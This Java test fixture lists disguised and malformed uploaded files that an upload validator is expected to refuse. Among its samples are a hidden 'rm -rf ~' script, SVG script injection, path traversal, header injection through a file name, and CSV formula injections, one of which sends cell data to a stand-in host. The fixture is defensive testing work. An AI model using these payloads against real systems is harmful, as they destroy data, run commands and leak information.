package az.icma.files;

import java.util.stream.Stream;

import static az.icma.files.Refusal.ENCRYPTED;
import static az.icma.files.Refusal.FORMULA;
import static az.icma.files.Refusal.KIND;
import static az.icma.files.Refusal.LONG_NAME;
import static az.icma.files.Refusal.NAME;
import static az.icma.files.SmallFiles.bytes;
import static az.icma.files.SmallFiles.utf8;

/** Files that lie about what they are, and text that is more than text. */
final class HostileNames {

    private HostileNames() {}

    static Stream<HostileFile> all() {
        return Stream.of(kinds(), names(), texts()).flatMap(files -> files);
    }

    private static Stream<HostileFile> kinds() {
        return Stream.of(
                HostileFile.of(KIND, "a page called a letter", "letter.pdf", () -> utf8("<html><script/></html>")),
                HostileFile.of(KIND, "a page", "page.html", () -> utf8("<html><body>text</body></html>")),
                HostileFile.of(KIND, "a page called a note", "page.txt", () -> utf8("<!DOCTYPE html><html></html>")),
                HostileFile.of(KIND, "a drawing with scripts", "a.svg", () -> utf8("<svg onload='alert(1)'/>")),
                HostileFile.of(KIND, "a program", "run.exe", () -> bytes("MZ program")),
                HostileFile.of(KIND, "a program called a picture", "run.jpg", () -> bytes("MZ program")),
                HostileFile.of(KIND, "a PDF called a program", "letter.pdf.exe", SmallFiles::pdf),
                HostileFile.of(KIND, "a file without an end of its name", "letter", SmallFiles::pdf),
                HostileFile.of(KIND, "a script called a note", "note.txt", () -> utf8("#!/bin/sh\nrm -rf ~\n")),
                HostileFile.of(KIND, "a PNG called JPEG", "photo.jpg", () -> SmallFiles.picture("png")),
                HostileFile.of(KIND, "a Word document called ODT", "letter.odt", () -> Archive.docx()
                        .bytes()),
                HostileFile.of(KIND, "an archive", "all.zip", () -> new Archive()
                        .with("a.exe", "MZ")
                        .bytes()),
                HostileFile.of(KIND, "an archive called a document", "letter.docx", () -> new Archive()
                        .with("evil.class", "1")
                        .bytes()),
                HostileFile.of(KIND, "rich text called Word", "letter.docx", () -> bytes("{\\rtf1 {\\object}}")),
                HostileFile.of(
                        ENCRYPTED,
                        "a locked document of Word",
                        "letter.docx",
                        () -> bytes("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1" + "\0".repeat(600))));
    }

    private static Stream<HostileFile> names() {
        return Stream.of(
                HostileFile.of(NAME, "a name written from right to left", "ərizə\u202Efdp.txt", () -> utf8("text")),
                HostileFile.of(NAME, "a program with a harmless end", "bill.exe.txt", () -> utf8("text")),
                HostileFile.of(NAME, "a device", "CON.txt", () -> utf8("text")),
                HostileFile.of(NAME, "a device with a longer name", "com1.report.txt", () -> utf8("text")),
                HostileFile.of(NAME, "a way up the folders", "../../etc/passwd.txt", () -> utf8("text")),
                HostileFile.of(NAME, "a way on Windows", "C:\\docs\\letter.txt", () -> utf8("text")),
                HostileFile.of(NAME, "a second stream of a file", "letter.exe:note.txt", () -> utf8("text")),
                HostileFile.of(NAME, "a zero that ends the name", "letter.exe\0.txt", () -> utf8("text")),
                HostileFile.of(NAME, "a line that ends the header", "a\r\nSet-Cookie: b.txt", () -> utf8("text")),
                HostileFile.of(NAME, "a dot that is dropped", "letter.txt.", () -> utf8("text")),
                HostileFile.of(NAME, "a sign that nobody sees", "let\u200Bter.txt", () -> utf8("text")),
                HostileFile.of(NAME, "a settings file", ".htaccess.txt", () -> utf8("text")),
                HostileFile.of(LONG_NAME, "a name without end", "a".repeat(4000) + ".txt", () -> utf8("text")));
    }

    private static Stream<HostileFile> texts() {
        return Stream.of(
                HostileFile.of(
                        KIND,
                        "orders to a terminal",
                        "note.txt",
                        () -> utf8("hello \u001b]0;evil\u0007 and more text")),
                HostileFile.of(
                        FORMULA,
                        "a table that starts a program",
                        "list.csv",
                        () -> utf8("ad;yaş\n=cmd|' /C calc'!A0;40\n")),
                HostileFile.of(
                        FORMULA,
                        "a table that sends itself away",
                        "list.csv",
                        () -> utf8("ad,yaş\n\"=WEBSERVICE(\"\"http://x.example/\"\"&A1)\",40\n")));
    }
}
